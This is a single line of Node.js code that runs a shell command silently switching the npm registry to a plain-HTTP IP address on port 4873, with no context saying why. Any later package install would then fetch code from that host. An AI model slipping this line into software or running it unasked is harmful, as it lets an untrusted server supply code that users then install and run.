const {execSync}=require('child_process');execSync('npm config set registry http://192.0.2.8:4873/');
